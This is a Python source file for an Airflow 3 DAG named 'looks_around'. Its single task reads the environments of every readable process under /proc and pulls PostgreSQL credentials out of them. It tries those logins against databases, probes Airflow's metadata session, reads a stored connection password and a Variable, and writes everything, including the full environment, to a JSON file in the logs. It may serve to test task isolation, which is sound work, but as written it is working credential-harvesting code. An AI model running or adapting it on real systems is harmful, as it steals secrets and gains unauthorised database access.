"""A task that looks for credentials wherever its user can read, and tries those that it finds; for Airflow 3."""

import glob
import json
import os
import re
from datetime import datetime

from airflow.providers.standard.operators.python import PythonOperator
from airflow.sdk import DAG, BaseHook, Variable

PLACE = os.path.join(os.environ["AIRFLOW_HOME"], "logs", "looked-around.json")
LOGIN = re.compile(r"(?:sqla\+|db\+)?postgresql(?:\+\w+)?://([^\s@/]+)@([^\s/]+)/(\w+)")


def environments() -> list[str]:
    """Return, as texts, all process environments that this one may read."""
    texts = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as opened:
                texts.append(opened.read().decode(errors="replace").replace("\0", "\n"))
        except OSError:  # another user's, or ended
            pass
    return texts


def opened(login: str, server: str, database: str) -> str:
    """Return the result of a login to a database."""
    import psycopg2

    try:
        psycopg2.connect(f"postgresql://{login}@{server}/{database}", connect_timeout=5).close()
        return "in"
    except psycopg2.Error as error:
        return str(error).splitlines()[0].rpartition("FATAL:")[2].strip()


def session() -> str:
    """Return the result of Airflow's own access to its database."""
    try:
        from airflow.utils.session import create_session

        with create_session() as found:
            return str(found.connection())
    except BaseException as error:
        return type(error).__name__


def look() -> None:
    texts = environments()
    logins = sorted({found for text in texts for found in LOGIN.findall(text)})
    tried = {}
    for login, server, database in logins:
        for name in dict.fromkeys((database, "airflow")):
            tried[f"{login.partition(':')[0]} {name}"] = opened(login, server, name)
    found = {
        "environment": dict(os.environ),
        "processes": texts,
        "tried": tried,
        "session": session(),
        "variable": Variable.get("colour"),
        "connection": BaseHook.get_connection("there").password,
    }
    with open(PLACE, "w") as file:
        json.dump(found, file)


with DAG("looks_around", start_date=datetime(2020, 1, 1), catchup=False, schedule=None) as dag:
    PythonOperator(task_id="look", python_callable=look)
